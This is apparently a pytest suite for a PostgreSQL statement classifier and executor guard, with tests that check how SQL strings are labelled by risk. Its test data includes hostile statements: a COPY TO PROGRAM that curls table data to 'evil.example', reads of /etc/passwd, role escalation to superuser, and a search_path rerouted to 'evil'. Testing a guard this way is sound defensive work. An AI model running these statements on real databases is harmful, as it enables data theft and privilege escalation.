"""SQL classification as a specification: what each statement is, as PostgreSQL's own
parser reads it, and the forms that must not slip past a rule."""

from __future__ import annotations

import pytest

from addons.classifiers import postgres as sqlops


def one(sql: str, phase: str = "execute") -> dict:
    return sqlops.classify("db", phase, sql).details


@pytest.mark.parametrize(
    "sql, action, classes, tables",
    [
        ("SELECT * FROM users WHERE id = 1", "read", ["READ"], ["users"]),
        ("select u.id from public.users u join orders o on o.uid = u.id", "read", ["READ"], ["orders", "public.users"]),
        ("SELECT 'DROP TABLE users' -- DROP TABLE users", "read", ["READ"], []),  # a string and a comment
        ("SELECT $$DELETE FROM users$$", "read", ["READ"], []),
        ("SELECT lower(email), count(*) FROM users GROUP BY 1", "read", ["READ"], ["users"]),
        ("SELECT pg_catalog.format_type(23, NULL)", "read", ["READ"], []),
        ("SELECT * FROM users FOR UPDATE", "write", ["READ"], ["users"]),  # row locks
        ("INSERT INTO users(name) VALUES ('x')", "write", ["WRITE"], ["users"]),
        ("UPDATE users SET name = 'x' WHERE id = 1", "write", ["WRITE"], ["users"]),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "write", ["WRITE"], ["s", "t"]),
        ("DELETE FROM users WHERE id = 1", "delete", ["WRITE"], ["users"]),
        ("TRUNCATE users", "delete", ["WRITE"], ["users"]),
        ("WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone", "delete", ["READ", "WRITE"], ["users"]),
        ("SELECT * INTO copy FROM users", "ddl", ["DDL", "READ"], ["copy", "users"]),
        ("CREATE TABLE t (a int)", "ddl", ["DDL"], ["t"]),
        ("CREATE TABLE t2 AS SELECT * FROM users", "ddl", ["DDL"], ["t2", "users"]),
        ("DROP TABLE users", "ddl", ["DDL"], []),
        ("ALTER TABLE users ADD COLUMN x int", "ddl", ["DDL"], ["users"]),
        ("DO $$BEGIN DELETE FROM users; END$$", "exec", ["FUNCTION"], []),
        ("CALL cleanup()", "exec", ["FUNCTION"], []),
        ("SELECT wipe_everything()", "exec", ["FUNCTION", "READ"], []),  # user functions can do anything
        ("SELECT nextval('users_id_seq')", "write", ["READ"], []),
        ("SELECT pg_terminate_backend(42)", "admin", ["FUNCTION", "READ"], []),
        ("SELECT lo_import('/etc/passwd')", "admin", ["FUNCTION", "READ"], []),
        ("SELECT * FROM dblink('host=x', 'select 1') AS t(a int)", "admin", ["FUNCTION", "READ"], []),
        ("SELECT set_config('role', 'postgres', false)", "admin", ["FUNCTION", "READ"], []),
        ("COPY users TO PROGRAM 'curl -d @- evil.example'", "admin", ["FUNCTION"], ["users"]),
        ("COPY users FROM '/etc/passwd'", "admin", ["MISC"], ["users"]),
        ("COPY users TO STDOUT", "read", ["READ"], ["users"]),
        ("COPY users FROM STDIN", "write", ["WRITE"], ["users"]),
        ("ALTER SYSTEM SET wal_level = minimal", "admin", ["MISC"], []),
        ("SET ROLE postgres", "admin", ["ROLE"], []),
        ("SET SESSION AUTHORIZATION postgres", "admin", ["ROLE"], []),
        ("RESET ROLE", "admin", ["ROLE"], []),
        ("GRANT ALL ON users TO PUBLIC", "admin", ["ROLE"], ["users"]),
        ("CREATE ROLE x SUPERUSER", "admin", ["ROLE"], []),
        ("SET search_path = evil, pg_catalog", "admin", ["MISC_SET"], []),  # would reroute unqualified names
        ("SET standard_conforming_strings = off", "admin", ["MISC_SET"], []),  # backslashes would end strings
        ("SET NAMES 'SJIS'", "admin", ["MISC_SET"], []),  # a multibyte encoding can swallow a quote
        ("RESET client_encoding", "admin", ["MISC_SET"], []),
        ("SET statement_timeout = '5s'", "read", ["MISC_SET"], []),
        ("PREPARE TRANSACTION 'tx1'", "admin", ["MISC"], []),
        ("COMMIT PREPARED 'other-apps-tx'", "admin", ["MISC"], []),
        ("ROLLBACK PREPARED 'other-apps-tx'", "admin", ["MISC"], []),
        ("SELECT pg_catalog.lo_create(0)", "admin", ["FUNCTION", "READ"], []),  # schema-qualified: same list
        ("SELECT pg_catalog.pg_notify('orders', 'x')", "admin", ["FUNCTION", "READ"], []),
        ("SELECT pg_try_advisory_lock(1)", "admin", ["FUNCTION", "READ"], []),
        ("SELECT public.lower('x')", "exec", ["FUNCTION", "READ"], []),  # not the built-in
        ('SELECT "Count"(1)', "exec", ["FUNCTION", "READ"], []),  # a quoted name is another function
        ("SELECT pg_catalog.pg_get_viewdef(1), pg_catalog.pg_table_is_visible(1)", "read", ["READ"], []),
        ("SHOW server_version", "read", ["MISC"], []),
        ("BEGIN", "read", ["MISC"], []),
        ("VACUUM users", "admin", ["MISC"], ["users"]),
        ("EXPLAIN DELETE FROM users", "read", ["READ"], ["users"]),  # planned, not run
        ("EXPLAIN ANALYZE DELETE FROM users", "delete", ["WRITE"], ["users"]),  # ANALYZE runs it
        ("PREPARE p AS DELETE FROM users WHERE id = $1", "delete", ["WRITE"], ["users"]),
        ("EXECUTE p(1)", "unknown", ["UNKNOWN"], []),  # until the session says what p is
        ("DECLARE c CURSOR FOR SELECT * FROM users", "read", ["READ"], ["users"]),
        ("SELEC * FROM users", "unknown", ["UNKNOWN"], []),
    ],
)
def test_statements(sql, action, classes, tables):
    d = one(sql)
    assert (d["action"], d["classes"], d["tables"]) == (action, classes, tables)


@pytest.mark.parametrize(
    "sql, where",
    [
        ("UPDATE users SET a = 1", False),
        ("UPDATE users SET a = 1 WHERE id = 2", True),
        ("DELETE FROM users", False),
        ("TRUNCATE users", False),
        ("WITH x AS (DELETE FROM users RETURNING 1) SELECT 1", False),  # inside a CTE too
        ("WITH x AS (DELETE FROM users WHERE id = 1 RETURNING 1) SELECT 1", True),
    ],
)
def test_where(sql, where):
    assert one(sql)["where"] is where


@pytest.mark.parametrize(
    "sql, command",
    [("DROP TABLE users", "DROP TABLE"), ("drop index i", "DROP INDEX"), ("SET x = 1", "SET"), ("COMMIT", "COMMIT"),
     ("PREPARE TRANSACTION 'x'", "PREPARE TRANSACTION"), ("PREPARE p AS SELECT 1", "PREPARE"),
     ("insert into t values (1)", "INSERT"), ("create index i on t(a)", "CREATE INDEX"), ("RESET ALL", "RESET")],
)
def test_commands_are_named_as_postgres_names_them(sql, command):
    assert one(sql)["command"] == command


def test_every_statement_of_a_string_is_a_part_and_the_riskiest_action_leads():
    op = sqlops.classify("db", "execute", "SELECT 1; DELETE FROM users; DROP TABLE users")
    assert [p.details["command"] for p in op.parts] == ["SELECT", "DELETE", "DROP TABLE"]
    assert [p.details["sql"] for p in op.parts] == ["SELECT 1", "DELETE FROM users", "DROP TABLE users"]
    assert op.action == "ddl" and op.risk == 80 and op.details["classes"] == ["DDL", "READ", "WRITE"]


def test_describing_runs_nothing_so_it_is_a_read():
    op = sqlops.classify("db", "describe", "DELETE FROM users")
    assert op.action == "read" and op.details["classes"] == ["WRITE"]


@pytest.mark.parametrize(
    "method, path, session, body, problem",
    [
        ("GET", "/execute", "s", {"sql": "select 1"}, "not a pg_bridge request"),
        ("POST", "/query", "s", {"sql": "select 1"}, "not a pg_bridge request"),
        ("POST", "/execute", "", {"sql": "select 1"}, "no pg-bridge-session header"),
        ("POST", "/execute", "s", ["select 1"], "the body is not a JSON object"),
        ("POST", "/execute", "s", {"query": "select 1"}, "sql is missing or not a string"),
        ("POST", "/describe", "s", {"portal": 5}, "portal is not a string"),
    ],
)
def test_malformed_requests_are_unknown(method, path, session, body, problem):
    op = sqlops.classify_request("db", method, path, session, body)
    assert op.action == "unknown" and op.risk == 100 and problem in op.details["reason"]


def test_prepared_names_keep_their_case():
    """The parser folds unquoted names; "P" and p are two statements to the server."""
    assert one('EXECUTE "P"')["name"] == "P" and one("EXECUTE P")["name"] == "p"
    assert one('PREPARE "P" AS SELECT 1')["name"] == "P"


def test_execute_resolves_what_the_session_prepared():
    prepared = sqlops.classify("db", "execute", "PREPARE p AS DELETE FROM users").details
    executed = sqlops.resolved(sqlops.classify("db", "execute", "EXECUTE p").parts[0], prepared)
    assert (executed.action, executed.details["command"], executed.details["executes"]) == ("delete", "EXECUTE", "DELETE")
    assert executed.details["tables"] == ["users"] and executed.details["where"] is False
    assert "where" not in prepared  # preparing runs nothing: no WHERE to judge yet


@pytest.mark.parametrize(
    "sql, rows, risk",
    [("UPDATE t SET a = 1 WHERE id = 1", 1, 40), ("UPDATE t SET a = 1 WHERE id > 1", 5000, 60),
     ("UPDATE t SET a = 1", 10, 70), ("DELETE FROM t", None, 100)],
)
def test_the_row_estimate_raises_risk(sql, rows, risk):
    part = sqlops.estimated(sqlops.classify("db", "execute", sql).parts[0], rows)
    assert part.details["rows"] == rows and part.risk == risk


# what the executor refuses whatever the rules say


@pytest.mark.parametrize(
    "sql, refused",
    [
        ("COPY users TO STDOUT", "COPY FROM STDIN / TO STDOUT is not supported"),
        ("COPY users FROM STDIN", "COPY FROM STDIN / TO STDOUT is not supported"),
        ("SET standard_conforming_strings = off", "standard_conforming_strings cannot be changed"),
        ("SET NAMES 'SJIS'", "client_encoding cannot be changed"),
        ("SELECT 1; SET search_path = evil", "search_path cannot be changed"),
        ("SET statement_timeout = '1s'", None),
        ("RESET search_path", None),  # back to the session's default: nothing to fear
        ("COPY users TO '/tmp/x'", None),  # server-side: a matter for the rules (admin)
    ],
)
def test_the_executor_refuses_what_it_cannot_carry(sql, refused):
    from pg_bridge.terminal.executor import unsupported

    problem = unsupported([p.details for p in sqlops.classify("db", "execute", sql).parts])
    assert (problem["M"] if problem else None) == (refused and problem["M"])
    if refused:
        assert refused in problem["M"] and problem["C"] == "0A000"


def test_execute_runs_only_what_was_decided():
    from types import SimpleNamespace

    from pg_bridge.terminal.executor import prepared_guard

    prepare = sqlops.classify("db", "execute", "PREPARE p AS DELETE FROM t WHERE id = 1").details
    session = SimpleNamespace(prepared={"p": prepare})
    decided = sqlops.resolved(sqlops.classify("db", "execute", "EXECUTE p").parts[0], prepare)
    guard = prepared_guard(session, [decided.details])
    assert guard() is None
    session.prepared["p"] = sqlops.classify("db", "execute", "PREPARE p AS DELETE FROM t").details  # swapped
    assert "changed after it was decided" in guard()["M"]
    del session.prepared["p"]
    assert "changed after it was decided" in guard()["M"]
